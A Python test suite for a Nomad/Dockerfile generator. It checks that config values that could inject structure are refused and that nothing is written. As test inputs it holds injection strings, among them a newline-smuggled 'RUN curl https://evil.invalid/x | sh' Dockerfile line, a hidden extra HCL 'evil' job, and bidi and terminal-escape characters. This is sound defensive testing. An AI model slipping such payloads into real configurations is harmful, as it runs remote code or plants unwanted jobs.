"""The generated files mean exactly what the configuration says: HCL, API JSON, Dockerfiles.

A value that would change a generated file's structure (a newline that ends an HCL comment or
a Dockerfile instruction, a backslash that continues one, a heredoc, a number Nomad cannot
hold) is refused when the config is loaded, `file:line: key` and exit 3, by ``nomad``,
``image --dry-run`` and ``build --dry-run`` alike, and nothing is written: each case runs the
real command in a private world whose files are compared by sha256 before and after
(tests/hostilekit.py). Behind that, each writer quotes every value for its format
(outputs/hcl.py, outputs/dockerfile.py) and reads back what it wrote: ``nomad`` refuses (exit
9, nothing written) HCL and API JSON that do not describe the same job field by field
(outputs/jobview.py), and a Dockerfile is refused unless it parses into its template's
instructions.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import hcl2
import pytest
from hcl2.utils import SerializationOptions
from hostilekit import Case, case, problems, run_all, settled_cache
from test_bad_input import BASE

from sm12x_bundle import cli
from sm12x_bundle.errors import ConfigError, VerifyError
from sm12x_bundle.outputs import dockerfile, hcl, jobview, nomad
from sm12x_bundle.outputs.dockerfile import Instruction, Step, Words
from sm12x_bundle.source import cache as cache_mod

REPO = Path(__file__).resolve().parents[1]
MANIFEST = (REPO / "nomad" / "example-manifest.json").read_text()
WORKERS = max(2, os.cpu_count() or 2)
NOMAD = "nomad -q --config bad.yaml --manifest manifest.json --out {W}/home/work/nomad-out"
IMAGE = "image -q --dry-run --config bad.yaml"
BUILD = "build -q --dry-run --config bad.yaml"
CONTROL = r"bad\.yaml:\d+: {key}: must not hold a control or invisible formatting character"
TOO_LARGE = r"bad\.yaml:\d+: {key}: is too large: .* does not fit a 64-bit integer"
FINITE = r"bad\.yaml:\d+: {key}: must be a finite number"
GATE = "    gate: engine\n    gate_time_s: 300\n"


def job(extra: str = "", **replace: str) -> str:
    """BASE (the world's cfg.yaml) with the job's keys replaced (a block mapping whole) and
    ``extra`` keys added, for bad.yaml."""
    text = BASE
    for key, value in replace.items():
        text, n = re.subn(rf"(?m)^    {key}:.*\n(?:      .*\n)*", lambda m: f"    {key}: {value}\n", text)
        assert n == 1, key
    return text + extra


def image(**keys: str) -> str:
    """BASE with image keys set: replaced where BASE has them, else added."""
    text = BASE
    for key, value in keys.items():
        line = f"  {key}: {value}\n"
        text, n = re.subn(rf"(?m)^  {key}:.*\n", lambda m: line, text)
        text = text if n else text.replace("  cuda_home: /usr/local/cuda\n", "  cuda_home: /usr/local/cuda\n" + line)
    return text


def bad(text: str):
    """bad.yaml, the manifest ``nomad`` reads, and a folder of earlier specs beside them."""
    def setup(world) -> None:
        world.write("home/work/bad.yaml", text)
        world.write("home/work/manifest.json", MANIFEST)
        world.write("home/work/nomad-out/keep.txt", "an earlier output, left alone\n")
    return setup


def c(id: str, command: str, code: int, phrase: str, config: str, **kw) -> Case:
    return case(id, command, code, phrase, setup=bad(config), **kw)


# The hostile pass's reproductions first: a gate_tool_dir whose newline made the rest live HCL
# (another job, the real one commented out by '/*' in model), and a cuda_home whose newline
# added `RUN curl ...` to the builder Dockerfile.
INJECTED_HCL = '"/opt/sm12x-bundle/tool\\njob \\"evil\\" {\\n  type = \\"batch\\"\\n}\\n/*"'

HCL_CASES = [
    c("hcl-gate-tool-dir-newline", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.gate_tool_dir"),
      job(GATE + f"    gate_tool_dir: {INJECTED_HCL}\n", model='"*/ /models/x"')),
    c("hcl-model-newline", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.model"), job(model='"/models/x\\n/*"')),
    c("hcl-model-bidi-override", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.model"), job(model='"/models/\\u202ex"')),
    c("hcl-served-name-escape", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.served_model_name"),
      job('    served_model_name: "a\\e[2Jb"\n')),
    c("hcl-datacenter-newline", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.datacenters\[0\]"),
      job('    datacenters: ["dc1\\n"]\n')),
    c("hcl-constraint-key-newline", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.node_constraints\.\$\{meta\.a\}\\n"),
      job('    node_constraints: {"${meta.a}\\n": x}\n')),
    c("hcl-constraint-value-line-separator", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.node_constraints\.\$\{meta\.a\}"),
      job('    node_constraints: {"${meta.a}": "x\\u2028y"}\n')),
    c("hcl-env-key-newline", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.env\.A\\nB"),
      job(env='{"A\\nB": "1"}')),
    c("hcl-env-value-nul", NOMAD, 3, r"bad\.yaml:\d+: jobs\[0\]\.env\.X: holds a NUL character", job(env='{X: "a\\0b"}')),
    c("hcl-host-mount-newline", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.host_mounts\./models"),
      job(host_mounts='{/models: "/srv/models\\n"}')),
    c("hcl-overlay-host-dir-newline", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.overlay_host_dir"),
      job(overlay_host_dir='"/opt/x\\n"')),
    c("hcl-artifact-url-newline", NOMAD, 3, CONTROL.format(key=r"jobs\[0\]\.artifact_base_url"),
      job('    artifact_base_url: "https://x.invalid/o\\nverlays"\n', overlay_delivery="artifact")),
]

NUMBER_CASES = [
    c("number-memory-mb-2-64", NOMAD, 3, TOO_LARGE.format(key=r"jobs\[0\]\.memory_mb"),
      job("    memory_mb: 18446744073709551616\n")),
    c("number-kill-timeout-1e10-s", NOMAD, 3, TOO_LARGE.format(key=r"jobs\[0\]\.kill_timeout_s") + " in nanoseconds",
      job("    kill_timeout_s: 10000000000\n")),
    c("number-shm-size-beyond-int64-bytes", NOMAD, 3, TOO_LARGE.format(key=r"jobs\[0\]\.shm_size_mb") + " in bytes",
      job("    shm_size_mb: 9000000000000\n")),
    c("number-cpu-mhz-2-63", NOMAD, 3, TOO_LARGE.format(key=r"jobs\[0\]\.cpu_mhz"),
      job("    cpu_mhz: 9223372036854775808\n")),
    c("number-host-ram-inf", NOMAD, 3, FINITE.format(key=r"jobs\[0\]\.host_ram_gib"), job("    host_ram_gib: .inf\n")),
    c("number-non-cumem-nan", NOMAD, 3, FINITE.format(key=r"jobs\[0\]\.non_cumem_gib"), job(non_cumem_gib=".nan")),
    c("number-capacity-inf", NOMAD, 3, FINITE.format(key=r"jobs\[0\]\.gpu_capacity_gib"),
      job("    gpu_capacity_gib: .inf\n")),
    c("number-capacity-minus-inf", NOMAD, 3, FINITE.format(key=r"jobs\[0\]\.gpu_capacity_gib"),
      job("    gpu_capacity_gib: -.inf\n")),
]

DOCKERFILE_CASES = [
    c("docker-cuda-home-newline-run", IMAGE, 3, CONTROL.format(key=r"image\.cuda_home"),
      image(cuda_home='"/usr/local/cuda\\nRUN curl https://evil.invalid/x | sh"')),
    c("docker-builder-setup-backslash", IMAGE, 3, r"bad\.yaml:\d+: image\.builder_setup: must not end in a backslash",
      image(builder_setup='"apt-get install -y g++ \\\\"')),
    c("docker-builder-setup-backslash-space", IMAGE, 3, r"bad\.yaml:\d+: image\.builder_setup: must not end in a backslash",
      image(builder_setup='"apt-get install -y g++ \\\\  "')),
    c("docker-builder-setup-heredoc", IMAGE, 3, r"bad\.yaml:\d+: image\.builder_setup: must not hold '<<'",
      image(builder_setup='"cat <<EOF"')),
    c("docker-builder-setup-newline", IMAGE, 3, CONTROL.format(key=r"image\.builder_setup"),
      image(builder_setup='"true\\nRUN curl https://evil.invalid/x"')),
    c("docker-revision-escape", IMAGE, 3, CONTROL.format(key=r"image\.revision"), image(revision='"\\e]0;x\\a"')),
    c("docker-source-url-tab", IMAGE, 3, CONTROL.format(key=r"image\.source_url"),
      image(source_url='"https://x.invalid/\\tb"')),
    case("docker-cli-builder-setup-backslash", "image -q --dry-run --config cfg.yaml --builder-setup 'g++ \\'", 2,
         r"--builder-setup: must not end in a backslash"),
    case("docker-cli-root-newline", "image -q --dry-run --config cfg.yaml --root '/usr/lib\nx'", 2,
         r"--root: must not hold a control"),
]

BUILD_CASES = [
    c("build-cuda-home-newline", BUILD, 3, CONTROL.format(key=r"image\.cuda_home"), image(cuda_home='"/usr/local/cuda\\nRUN x"')),
    c("build-gate-tool-dir-newline", BUILD, 3, CONTROL.format(key=r"jobs\[0\]\.gate_tool_dir"),
      job(GATE + f"    gate_tool_dir: {INJECTED_HCL}\n")),
    c("build-memory-mb-2-64", BUILD, 3, TOO_LARGE.format(key=r"jobs\[0\]\.memory_mb"),
      job("    memory_mb: 18446744073709551616\n")),
    c("build-builder-setup-backslash", BUILD, 3, r"image\.builder_setup: must not end in a backslash",
      image(builder_setup='"true \\\\"')),
]

CONTROLS = [
    # what may be written is written: a literal "$${" and a multi-line env value are fine
    c("control-nomad-writes", NOMAD.replace("nomad-out", "specs"), 0, "",
      job(env='{HF_HUB_OFFLINE: "1", LIT: "$${node.x}", PEM: "a\\nb"}'), writes=("home/work/specs",)),
    c("control-image-dry-run", IMAGE, 0, "", image(builder_setup='"apt-get update && apt-get install -y g++"'), trees=True),
]

CASES = HCL_CASES + NUMBER_CASES + DOCKERFILE_CASES + BUILD_CASES + CONTROLS


@pytest.fixture(scope="module")
def outcomes(pinned_source, tmp_path_factory):
    cache = settled_cache(cache_mod.cache_dir(), pinned_source.sha256)
    return run_all(CASES, tmp_path_factory.mktemp("formats"), BASE, cache, WORKERS)


@pytest.mark.parametrize("c", CASES, ids=[c.id for c in CASES])
def test_a_value_that_would_change_a_generated_file_is_refused_and_nothing_written(c, outcomes):
    o = outcomes[c.id]
    found = problems(c, o)
    assert not found, "\n".join([*found, f"exit {o.code}; stderr: {o.stderr[-1500:]!r}"])


def test_the_table_covers_each_class():
    assert len({x.id for x in CASES}) == len(CASES)
    assert len(HCL_CASES) >= 10 and len(NUMBER_CASES) >= 6 and len(DOCKERFILE_CASES) >= 6 and len(BUILD_CASES) >= 3


# --- HCL strings mean what the API JSON's strings mean --------------------------------------

_OPTIONS = SerializationOptions(with_comments=False, explicit_blocks=False, strip_string_quotes=True)
STRINGS = [
    "${node.unique.name}", "$${node.x}", "$$${node.x}", "${HOME}", "$${HOME}", "%{if x}", "%%{x}", "${meta.gpu_pool}",
    "${NOMAD_ALLOC_DIR}/y", "a$", "$", "%${node.x}", "\\${node.x}", 'say "hi" \\ there', "a\nb\tc\r", "\x07\u2028\U000e0001",
]


@pytest.mark.parametrize("value", STRINGS)
def test_an_hcl_string_decodes_to_exactly_the_json_string(value):
    """HCL's "$${" is a literal "${"; a runtime variable (${node.x}) is left for Nomad in both
    forms. So "$${node.x}" must be written "$$${node.x}", or HCL would decode it to ${node.x}
    (which Nomad fills in) while the JSON carries it verbatim."""
    parsed = hcl2.loads(f"a = {hcl.string(value)}\n", serialization_options=_OPTIONS)["a"]
    assert hcl.literal(parsed) == value


def test_runtime_variables_stay_readable_and_a_literal_dollar_brace_is_escaped():
    assert hcl.string("${meta.gpu_pool}") == '"${meta.gpu_pool}"'
    assert hcl.string("$${node.x}") == '"$$${node.x}"'
    assert hcl.string("${HOME}") == '"$${HOME}"'


def test_a_comment_never_ends_early():
    assert hcl.comment("a note") == "# a note"
    for text in ("a\nb", "a\rb", "a\x00b", "a\u2028b", "a\u202eb"):
        with pytest.raises(ConfigError, match="HCL comment cannot hold"):
            hcl.comment(text)


# --- nomad reads back what it wrote ------------------------------------------------------


@pytest.fixture
def workdir(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "manifest.json").write_text(MANIFEST)
    (tmp_path / "cfg.yaml").write_text(job(env='{HF_HUB_OFFLINE: "1", LIT: "$${node.x}"}'))
    return tmp_path


def run_nomad(workdir: Path) -> int:
    return cli.main(["nomad", "-q", "--config", "cfg.yaml", "--manifest", "manifest.json", "--out", str(workdir / "out")])


def test_a_literal_dollar_brace_reaches_both_forms_alike(workdir):
    assert run_nomad(workdir) == 0
    hcl_text = (workdir / "out/dsv4-flash.nomad.hcl").read_text()
    api = json.loads((workdir / "out/dsv4-flash.nomad.json").read_text())
    assert api["Job"]["TaskGroups"][0]["Tasks"][0]["Env"]["LIT"] == "$${node.x}"  # verbatim, as the config says
    assert 'LIT                        = "$$${node.x}"' in hcl_text
    view = jobview.hcl_view(hcl_text)
    assert view["group"]["tasks"][0]["env"]["LIT"] == "$${node.x}"


def _dropping_one_env_value(original):
    def task(spec):
        block = original(spec)
        env = next(b for b in block.body if isinstance(b, nomad.hcl.Block) and b.kind == "env")
        env.body = [item for item in env.body if item[0] != "LIT"]
        return block
    return task


def test_an_hcl_writer_that_drops_an_env_value_is_refused_and_nothing_written(workdir, monkeypatch, capsys):
    monkeypatch.setattr(nomad, "_hcl_task", _dropping_one_env_value(nomad._hcl_task))
    assert run_nomad(workdir) == 9
    err = capsys.readouterr().err
    assert "dsv4-flash.nomad.hcl: the HCL and the API JSON describe different jobs at job.group.tasks[0].env.LIT" in err
    assert "(HCL nothing, JSON '$${node.x}')" in err
    assert not (workdir / "out").exists()


def test_a_json_writer_that_drops_a_mount_is_refused(workdir, monkeypatch, capsys):
    original = nomad._container_config

    def config(*args, **kw):
        out = original(*args, **kw)
        out["mount"] = out["mount"][:-1]
        return out

    monkeypatch.setattr(nomad, "_container_config", config)
    assert run_nomad(workdir) == 9
    assert "describe different jobs at job.group.tasks[0].docker.mounts" in capsys.readouterr().err
    assert not (workdir / "out").exists()


def test_an_hcl_text_with_a_block_too_many_is_refused(workdir, monkeypatch, capsys):
    """What a newline in a note did: live HCL after the comment (here added by the writer)."""
    original = nomad.hcl_text
    monkeypatch.setattr(nomad, "hcl_text", lambda spec: original(spec) + 'job "evil" {\n  type = "batch"\n}\n')
    assert run_nomad(workdir) == 9
    assert "do not read back as one job: hcl: one job block expected, found 2" in capsys.readouterr().err
    assert not (workdir / "out").exists()


def test_a_note_with_a_newline_is_refused_by_the_writer(workdir, monkeypatch, capsys):
    original = nomad._notes
    monkeypatch.setattr(nomad, "_notes", lambda *a: (*original(*a), "a note\njob \"evil\" {}"))
    assert run_nomad(workdir) == 3
    assert "an HCL comment cannot hold a control or line-separator character" in capsys.readouterr().err
    assert not (workdir / "out").exists()


def test_the_views_cover_every_field_of_the_golden_pairs():
    for path in sorted((REPO / "tests/golden/nomad").glob("*.nomad.hcl")):
        api = path.with_name(path.name.replace(".hcl", ".json"))
        view = jobview.same_job(path.name, path.read_text(), api.read_text())
        assert view["group"]["tasks"] and view["meta"]


def test_first_difference_names_the_field():
    assert jobview.first_difference({"a": [1, {"b": 2}]}, {"a": [1, {"b": 3}]}, "job") == "job.a[1].b (HCL 2, JSON 3)"
    assert jobview.first_difference({"a": 1}, {"a": True}, "job") == "job.a (HCL 1, JSON True)"
    assert jobview.first_difference({"a": [1]}, {"a": [1]}, "job") is None


# --- a Dockerfile is its template's instructions ----------------------------------------------


def test_the_parser_reads_continuations_comments_and_keywords():
    text = "# c\nfrom x\n\nRUN a \\\n  # inside\n\n  b\nLABEL k=\"v\" \\\n      j=\"w\"\nrun cat <<EOF\n"
    assert dockerfile.parse(text) == [
        Instruction("FROM", "x"), Instruction("RUN", "a b"), Instruction("LABEL", 'k="v" j="w"'),
        Instruction("RUN <<", "cat <<EOF"),
    ]


def test_both_templates_render_to_their_own_instructions():
    builder = dockerfile.render("Dockerfile.builder", {"BUILDER_BASE": "x", "BUILDER_SETUP": Step("RUN", "true"),
                                                      "CUDA_HOME": dockerfile.shell_word("/usr/local/cuda")})
    assert [i.keyword for i in dockerfile.parse(builder)] == ["FROM", "RUN", "COPY", "RUN"]
    values = {"BASE": "x", "BASE_NAME": "x", "DOC_DIR": "/d", "DROP_STALE_BYTECODE": Step(None, "(none)"),
              "LABELS": Words(("a=" + dockerfile.label_word("1"), "b=" + dockerfile.label_word('"$x\\'))) }
    bundle = dockerfile.render("Dockerfile.bundle", values)
    assert [i.keyword for i in dockerfile.parse(bundle)] == ["FROM", "COPY", "LABEL"]


@pytest.mark.parametrize("setup", ["apt-get install -y g++ \\", "true \\  ", "cat <<EOF", "cat <<'X'"])
def test_a_step_that_would_swallow_or_open_lines_is_refused(setup):
    """The renderer's own guard, behind config/'s rule: a RUN line ending in a backslash takes
    the template's COPY into itself; a heredoc takes the rest of the file."""
    with pytest.raises(VerifyError, match="is not its template's 4 instructions"):
        dockerfile.render("Dockerfile.builder", {"BUILDER_BASE": "x", "BUILDER_SETUP": Step("RUN", setup), "CUDA_HOME": "/c"})


@pytest.mark.parametrize("value", ["/usr/local/cuda\nRUN curl x", "a\rb", "a\x1bb", "a\u2028b"])
def test_a_word_cannot_hold_a_line_break_or_control(value):
    for quote in (dockerfile.shell_word, dockerfile.label_word):
        with pytest.raises(ConfigError, match="control or line-separator character"):
            quote(value)
    with pytest.raises(ConfigError, match="control or line-separator character"):
        dockerfile.render("Dockerfile.builder", {"BUILDER_BASE": "x", "BUILDER_SETUP": Step(None, "c"), "CUDA_HOME": value})


def test_a_manifest_path_with_a_newline_is_refused(workdir, capsys):
    """An overlay manifest (--manifest) is input too: its paths reach both files."""
    manifest = json.loads(MANIFEST)
    manifest["files"][0]["container_path"] += "\n"
    (workdir / "manifest.json").write_text(json.dumps(manifest))
    assert run_nomad(workdir) == 3
    assert "files[0].container_path must not hold a control or invisible formatting character" in capsys.readouterr().err
    assert not (workdir / "out").exists()
